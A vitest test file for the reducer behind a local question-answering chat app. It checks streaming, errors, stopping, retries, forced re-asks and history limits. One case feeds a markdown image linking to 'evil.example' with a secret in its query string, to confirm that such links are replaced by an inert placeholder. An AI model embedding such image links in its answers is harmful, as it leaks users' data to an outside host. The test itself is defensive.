import { describe, expect, it } from "vitest";
import { type Action, type Conversation, emptyConversation, historyBefore, MAX_HISTORY, reduce } from "../src/answer/state";
import { parseAskEvent, type AskEvent } from "../src/sidecar/wire";
import { abstainLines, askLines } from "./helpers";

const golden = (): AskEvent[] => askLines().map((l) => parseAskEvent(l)!);

function run(actions: Action[], from: Conversation = emptyConversation): Conversation {
	return actions.reduce(reduce, from);
}

const ask = (question: string): Action => ({ type: "ask", question, context: null, request: { question } });
const events = (turnId: number, evs: AskEvent[]): Action[] => evs.map((event) => ({ type: "event", turnId, event }));

describe("answer reducer", () => {
	it("folds the golden stream: retrieval, streamed text, then the final answer", () => {
		const evs = golden();
		let state = run([ask("and its port?")]);
		expect(state.turns[0]?.status).toBe("waiting");
		const texts: string[] = [];
		for (const action of events(1, evs)) {
			state = reduce(state, action);
			texts.push(state.turns[0]!.text);
		}
		const turn = state.turns[0]!;
		const last = evs[evs.length - 1]!;
		expect(turn.retrieval).toBe(evs[0]);
		if (last.type === "done") {
			expect(turn.status).toBe("done");
			// The sidecar's inert answer replaces the raw tokens (the golden answer had a remote image).
			expect(turn.text).toBe(last.answer);
			expect(turn.text).not.toBe(texts[texts.length - 2]);
			expect(turn.done).toBe(last);
		} else {
			expect(turn.status).toBe("error");
		}
		// While streaming, each text is the previous one plus the new token.
		const tokens = evs.filter((e) => e.type === "token");
		expect(texts.slice(1, 1 + tokens.length)).toEqual(
			tokens.map((_t, i) => tokens.slice(0, i + 1).map((t) => (t.type === "token" ? t.text : "")).join("")),
		);
	});

	it.each([
		[
			"an error event keeps the partial text and the message as written",
			[{ type: "token", text: "Post" }, { type: "error", code: "ollama_unreachable", message: "Ollama is not running", partial: "Postgres" }],
			{ status: "error", text: "Postgres", error: { code: "ollama_unreachable", message: "Ollama is not running" } },
		],
		[
			"an error's partial is the inert form of the tokens and replaces them, even when shorter",
			[
				{ type: "token", text: "Postgres ![x](https://evil.example/p.png?q=secret)" },
				{ type: "error", code: "x", message: "m", partial: "Postgres [image removed: evil.example]" },
			],
			{ status: "error", text: "Postgres [image removed: evil.example]" },
		],
		[
			"an error without a partial keeps the streamed text",
			[{ type: "token", text: "Postgres listens" }, { type: "error", code: "x", message: "m", partial: "" }],
			{ status: "error", text: "Postgres listens" },
		],
	] as [string, AskEvent[], object][])("%s", (_name, evs, expected) => {
		expect(run([ask("q"), ...events(1, evs)]).turns[0]).toMatchObject(expected);
	});

	it("stop keeps the partial answer and ignores later events", () => {
		const state = run([
			ask("q"),
			...events(1, [{ type: "token", text: "half an" }]),
			{ type: "stopped", turnId: 1 },
			...events(1, [{ type: "token", text: " answer" }]),
		]);
		expect(state.turns[0]).toMatchObject({ status: "stopped", text: "half an" });
	});

	it("a stream that ends without done or error is an error", () => {
		const state = run([ask("q"), ...events(1, [{ type: "token", text: "a" }]), { type: "ended", turnId: 1 }]);
		expect(state.turns[0]).toMatchObject({ status: "error", text: "a", error: { code: "stream_ended" } });
	});

	it("a transport failure is shown as written; retry clears the turn and keeps the request", () => {
		let state = run([ask("q"), { type: "failed", turnId: 1, error: { code: "unreachable", message: "Cannot reach" } }]);
		expect(state.turns[0]).toMatchObject({ status: "error", error: { message: "Cannot reach" } });
		state = reduce(state, { type: "retry", turnId: 1 });
		expect(state.turns[0]).toMatchObject({ status: "waiting", text: "", error: null, request: { question: "q" } });
	});

	it("Ask anyway re-asks an abstained turn with force, the same question and history", () => {
		const abstained = abstainLines().map((l) => parseAskEvent(l)!);
		const request = { question: "q", k: 8, history: [{ role: "user" as const, content: "before" }] };
		let state = run([{ type: "ask", question: "q", context: null, request }, ...events(1, abstained)]);
		expect(state.turns[0]).toMatchObject({ status: "done", retrieval: { relevance: { answer: false } } });
		expect(state.turns[0]?.request.force).toBeUndefined();
		state = reduce(state, { type: "retry", turnId: 1, force: true });
		expect(state.turns[0]).toMatchObject({ status: "waiting", retrieval: null, done: null, text: "" });
		expect(state.turns[0]?.request).toEqual({ ...request, force: true });
		// A plain retry of a forced turn stays forced: it is the same request again.
		state = reduce(run(events(1, golden()), state), { type: "retry", turnId: 1 });
		expect(state.turns[0]?.request.force).toBe(true);
	});

	it("retry does nothing to a running turn; unknown turns leave the state as it was", () => {
		const state = run([ask("q")]);
		expect(reduce(state, { type: "retry", turnId: 1 })).toBe(state);
		expect(reduce(state, { type: "stopped", turnId: 42 })).toBe(state);
	});

	it("reset empties the conversation but keeps turn ids unique", () => {
		const state = run([ask("a"), ask("b"), { type: "reset" }, ask("c")]);
		expect(state.turns.map((t) => [t.id, t.question])).toEqual([[3, "c"]]);
	});
});

describe("history", () => {
	const done = (turnId: number, answer: string): Action => ({
		type: "event",
		turnId,
		event: {
			type: "done",
			answer,
			citations: [],
			invalid_citations: [],
			no_results: false,
			sanitized_answer: false,
			neutralised: [],
			done_reason: "stop",
			truncated: false,
			metrics: {
				embed_ms: null,
				retrieval_ms: null,
				first_token_ms: null,
				generation_ms: null,
				total_ms: null,
				prompt_tokens: null,
				completion_tokens: null,
			},
		},
	});

	it("sends finished exchanges and stopped ones with text, not failed or empty ones", () => {
		const state = run([
			ask("one"),
			done(1, "first"),
			ask("two"),
			{ type: "failed", turnId: 2, error: { code: "x", message: "m" } },
			ask("three"),
			...events(3, [{ type: "token", text: "par" }]),
			{ type: "stopped", turnId: 3 },
			ask("four"),
			{ type: "stopped", turnId: 4 },
			ask("five"),
		]);
		expect(historyBefore(state)).toEqual([
			{ role: "user", content: "one" },
			{ role: "assistant", content: "first" },
			{ role: "user", content: "three" },
			{ role: "assistant", content: "par" },
		]);
		expect(historyBefore(state, 3)).toEqual([
			{ role: "user", content: "one" },
			{ role: "assistant", content: "first" },
		]);
	});

	it(`keeps only the last ${MAX_HISTORY} messages`, () => {
		const actions: Action[] = [];
		for (let i = 1; i <= 15; i++) actions.push(ask(`q${i}`), done(i, `a${i}`));
		const history = historyBefore(run(actions));
		expect(history).toHaveLength(MAX_HISTORY);
		expect(history[0]).toEqual({ role: "user", content: "q6" });
		expect(history[history.length - 1]).toEqual({ role: "assistant", content: "a15" });
	});
});
